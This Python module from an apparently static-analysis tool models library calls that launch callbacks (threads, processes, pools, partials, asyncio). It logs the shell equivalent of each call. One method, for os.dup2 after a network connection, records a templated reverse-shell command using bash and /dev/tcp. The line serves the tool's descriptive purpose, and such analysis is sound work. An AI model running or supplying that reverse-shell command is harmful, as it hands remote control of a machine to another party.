"""Calls of library functions that call what they are given, or change what later calls mean."""

from __future__ import annotations

from typing import cast

from trueline.actions.python.attributes import canonical
from trueline.actions.python.builtin_calls import BuiltinCalls
from trueline.actions.python.library import LibraryCall, line, run
from trueline.actions.python.machine import RaiseError
from trueline.actions.python.values import (
    ANYTHING,
    DATA,
    Closure,
    Instance,
    Listing,
    PartialCall,
    Reference,
    Value,
)

STARTERS = frozenset({
    "threading.Thread", "multiprocessing.Process", "threading.Timer", "_thread.start_new_thread", "atexit.register",
    "signal.signal", "asyncio.to_thread", "timeit.timeit", "timeit.repeat", "cProfile.run", "profile.run",
    "weakref.finalize", "contextlib.ExitStack.callback",
})  # fmt: skip
POOLS = frozenset({
    "concurrent.futures.ThreadPoolExecutor", "concurrent.futures.ProcessPoolExecutor", "multiprocessing.Pool",
    "multiprocessing.pool.ThreadPool", "multiprocessing.dummy.Pool", "sched.scheduler", "contextlib.ExitStack",
})  # fmt: skip


class CallbackCalls(BuiltinCalls):
    """`_library_MODULE_NAME` follows the function of that name."""

    def _library_importlib_import_module(self, args: list[Value], keywords: dict[str, Value]) -> Value:
        value = self._builtin___import__(args, keywords)
        return Reference(canonical(args[0])) if args and isinstance(args[0], str) else value

    def _library_functools_partial(self, args: list[Value], keywords: dict[str, Value]) -> Value:
        return PartialCall(args[0], tuple(args[1:]), keywords) if args else DATA

    def _library_functools_reduce(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        elements = self.elements(args[1]) if len(args) > 1 else None
        if elements is None or isinstance(args[1], Listing):
            self.call_later(args[0] if args else ANYTHING, [DATA, DATA], {}, "reduce")
            return ANYTHING
        items = [*args[2:3], *elements]
        if not items:
            return DATA
        result = items[0]
        for item in items[1:]:
            result = self.call_value(args[0], [result, item], {}, "reduce")
        return result

    def _library_operator_methodcaller(self, args: list[Value], keywords: dict[str, Value]) -> Value:
        return PartialCall(Reference("operator.methodcaller.made"), ((args, keywords),), {})

    def _library_operator_methodcaller_made(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        given, words = cast("tuple[list[Value], dict[str, Value]]", args[0])
        if len(args) != 2 or not given or not isinstance(given[0], str):
            return self.not_understood("a method whose name is computed")
        return self.call_method(args[1], given[0], given[1:], words, given[0])

    def _library_operator_attrgetter(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        return PartialCall(Reference("operator.attrgetter.made"), tuple(args), {})

    def _library_operator_attrgetter_made(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        *names, value = args
        if len(names) != 1 or not isinstance(names[0], str):
            return ANYTHING
        for name in names[0].split("."):
            value = self.attribute(value, name)
        return value

    def _library_operator_call(self, args: list[Value], keywords: dict[str, Value]) -> Value:
        return self.call_value(args[0], args[1:], keywords, "operator.call") if args else DATA

    def _library_operator_itemgetter(self, _args: list[Value], _keywords: dict[str, Value]) -> Value:
        return Reference("operator.itemgetter.made")

    def _library_typing_get_type_hints(self, _args: list[Value], _keywords: dict[str, Value]) -> Value:
        return self.not_understood("evaluates annotations")

    def _library_os_chdir(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        place = LibraryCall("os.chdir", args, folder=self.folder).path(0, "path")
        self.record(run("cd", place))
        self.folder = place if not self.branches else "$…"
        return None

    def _library_os_fork(self, _args: list[Value], _keywords: dict[str, Value]) -> Value:
        return DATA

    def _library_os_dup2(self, _args: list[Value], _keywords: dict[str, Value]) -> Value:
        if len(self.connected) > 1:
            host, port = self.connected[:2]
            self.record(line(f"bash -i >& /dev/tcp/{host}/{port} 0>&1"))
            return DATA
        return self.not_understood("another program gets this one's input and output")

    def _library_os_write(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        if not args or args[0] not in (1, 2):
            self.record(run("tee", "$…")) if not isinstance(args[0] if args else None, Instance) else None
        return DATA

    def _library_asyncio_run(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        return args[0] if args else DATA

    _library_asyncio_create_task = _library_asyncio_ensure_future = _library_asyncio_wait_for = _library_asyncio_run

    def _library_asyncio_gather(self, args: list[Value], _keywords: dict[str, Value]) -> Value:
        return list(args)

    def start(self, name: str, args: list[Value], keywords: dict[str, Value]) -> Value:
        """Something is called elsewhere: in a thread, a process, at the end."""
        given = keywords.get("args", ())
        words = keywords.get("kwargs", {})
        values = self.elements(given)
        if name in ("timeit.timeit", "timeit.repeat", "cProfile.run", "profile.run"):
            for source in (*args[:2], keywords.get("stmt"), keywords.get("setup")):
                if isinstance(source, Closure):
                    self.call_later(source, [], {}, name)
                elif source is not None and not isinstance(source, int):
                    self.execute(source, "exec")
            return DATA
        if name in ("threading.Thread", "multiprocessing.Process"):
            function = keywords.get("target", args[1] if len(args) > 1 else None)
            values = values if "args" in keywords else self.elements(args[3]) if len(args) > 3 else []
        elif name == "threading.Timer":
            function = keywords.get("function", args[1] if len(args) > 1 else DATA)
            values = values if "args" in keywords else self.elements(args[2]) if len(args) > 2 else []
        elif name == "_thread.start_new_thread":
            function, values = args[0] if args else DATA, self.elements(args[1]) if len(args) > 1 else []
        elif name == "signal.signal":
            function, values = args[1] if len(args) > 1 else None, [DATA, DATA]
            if isinstance(function, Reference) and function.name.startswith("signal."):
                return DATA
        elif name == "weakref.finalize":
            function, values, words = args[1] if len(args) > 1 else DATA, args[2:], keywords
        else:
            function, values, words = args[0] if args else DATA, args[1:], keywords
        if function is None:
            return DATA
        named = cast("dict[str, Value]", words) if isinstance(words, dict) else {}
        if values is None:
            self.not_understood(f"{name}() with arguments that are not known")
            values = [DATA] * 8
        self.call_later(function, values, named, name)
        return function if name == "atexit.register" else DATA

    def end(self) -> Value:
        """The program ends."""
        if self.branches:
            self.doubt = True
        raise RaiseError

    def of_pool(self, name: str, args: list[Value], keywords: dict[str, Value], shown: str) -> Value:
        """A method of a pool of threads or processes."""
        if name in ("map", "imap", "imap_unordered", "map_async") and len(args) > 1:
            return self._builtin_map(args, {})
        if name == "starmap" and len(args) > 1:
            for row in self.elements(args[1]) or [(DATA, DATA)]:
                self.call_later(args[0], self.elements(row) or [DATA], {}, shown)
            return DATA
        if name in ("apply", "apply_async") and args:
            given = self.elements(args[1]) if len(args) > 1 else []
            self.call_later(args[0], given if given is not None else [DATA] * 4, {}, shown)
            return DATA
        if name in ("submit", "callback") and args:
            self.call_later(args[0], args[1:], keywords, shown)
            return DATA
        for value in (*args, *keywords.values()):
            self.hand_over(value, shown)
        return Instance("pool") if name == "__enter__" else DATA
